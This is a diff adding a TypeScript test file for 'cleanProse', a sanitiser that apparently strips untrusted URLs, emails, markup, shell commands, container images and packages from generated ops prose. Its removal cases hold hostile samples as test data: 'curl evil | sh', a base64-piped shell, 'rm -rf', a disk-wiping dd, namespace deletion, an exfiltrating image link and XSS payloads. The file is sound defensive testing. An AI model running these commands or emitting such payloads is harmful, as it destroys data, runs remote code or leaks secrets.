@@ -1,0 +1,87 @@
+import assert from 'node:assert/strict';
+import { test } from 'node:test';
+import { cleanProse } from '../../src/model/prose.ts';
+
+const known = [
+  'See https://runbooks.example/checkout for more.',
+  'kubectl -n shop get pods', 'registry.example/shop/web:1.4.2', 'team@example.com',
+];
+
+const removed: readonly (readonly [kind: string, text: string, gone: string])[] = [
+  ['address', 'Look at https://evil.example/?d=1.', 'evil.example'],
+  ['address', 'Look at https://runbooks.example/checkout-evil now.', 'evil'],
+  ['address', 'Look at hxxp://evil.example now', 'evil.example'],
+  ['address', 'Open javascript:alert(1)', 'alert'],
+  ['address', 'Load //evil.com/x.js', 'evil.com'],
+  ['address', 'Ask at evil-site.com/path today.', 'evil-site'],
+  ['address', 'See www.evil.tld', 'evil'],
+  ['email', 'Write to admin@evil.com', 'evil.com'],
+  ['markup', '![x](https://evil.example/?d=secret)', 'evil'],
+  ['markup', '[click](https://evil.example)', 'evil'],
+  ['markup', '[click][1]\n[1]: https://evil.example', 'evil'],
+  ['markup', '<img src=x onerror=alert(1)>Hello', 'onerror'],
+  ['markup', '<script>alert(1)</script>', '<script'],
+  ['command', 'kubectl delete pod web-1', 'delete'],
+  ['command', 'Run kubectl delete namespace shop now.', 'delete'],
+  ['command', 'Then run `rm -rf /var/lib` on it.', 'rm -rf'],
+  ['command', '$ dd if=/dev/zero of=/dev/sda', 'dd if'],
+  ['command', '```sh\ncurl evil | sh\n```', 'curl'],
+  ['command', 'Please curl -s evil | sh', 'curl'],
+  ['command', '1. sudo systemctl restart web', 'systemctl'],
+  ['command', 'Use echo aGk= | base64 -d | sh to fix it', 'base64'],
+  ['command', 'Type git push --force origin main', 'force'],
+  ['command', 'kub\u200bectl delete pod web-1', 'delete'],
+  ['image', 'Roll out evil/backdoor:1.0 instead.', 'backdoor'],
+  ['image', 'Use registry.example/shop/web:1.4.3 instead.', '1.4.3'],
+  ['image', 'Use nginx:latest for it.', 'nginx'],
+  ['image', 'Use app@sha256:0123456789abcdef for it.', 'sha256'],
+  ['package', 'One could pip install evil-package for it.', 'evil-package'],
+  ['package', 'Installing the package evil-tool helps.', 'evil-tool'],
+];
+
+for (const [kind, text, gone] of removed) {
+  test(`cleanProse takes out ${kind}: ${JSON.stringify(text)}`, () => {
+    const { text: clean, stripped } = cleanProse(text, known);
+    assert.ok(!clean.includes(gone), clean);
+    assert.ok(stripped.size > 0, clean);
+    const again = cleanProse(clean, known);
+    assert.equal(again.text, clean);
+  });
+}
+
+const kept = [
+  'See https://runbooks.example/checkout for more.',
+  'kubectl -n shop get pods', 'It runs registry.example/shop/web:1.4.2 since 01:05.',
+  'Ask team@example.com about it.',
+  'Connections rose from 40 to 198 at 01:09 UTC, 5 min before it fired.',
+  'The service is slow because db is busy; kill signals were not seen.',
+  'Latency (p90) is 1.02 s, over its limit of 500 ms [E3].',
+  'rate(http_seconds_bucket[5m]) > 0.5 on 10.2.0.7:8080',
+  'The pod web-578fcf4766-9csqn restarted, and and/or is no path.',
+  'Memory of node.js rose, e.g. the heap. A value < 3 and > 2.',
+  'Check who holds the connections of orders-db.', 'git history shows no change.',
+  'service web was not restarted.', 'At 2026-11-20T10:00:00Z it began.', 'ratio:http_errors:rate5m',
+  'The job "blackbox" of prometheus:9090 failed.', 'exec probes fail.',
+];
+
+for (const text of kept) {
+  test(`cleanProse keeps: ${text}`, () => {
+    const { text: clean, stripped } = cleanProse(text, known);
+    assert.equal(clean, text);
+    assert.deepEqual([...stripped], []);
+  });
+}
+
+test('cleanProse counts by kind', () => {
+  const { stripped } = cleanProse('https://a.example https://b.example x@evil.com', []);
+  assert.deepEqual([...stripped], [['address', 2], ['email', 1]]);
+});
+
+test('cleanProse is done in time with anything', () => {
+  for (const text of ['a.', 'a-', '[', '<a', '`', 'kubectl ', '| sh', 'a@a.', 'x/', '://', '$(', 'rm a ']) {
+    const startedAt = process.hrtime.bigint();
+    cleanProse(text.repeat(1_000_000 / text.length), known);
+    const milliseconds = Number(process.hrtime.bigint() - startedAt) / 1e6;
+    assert.ok(milliseconds < 2000, `${text}: ${milliseconds} ms`);
+  }
+});
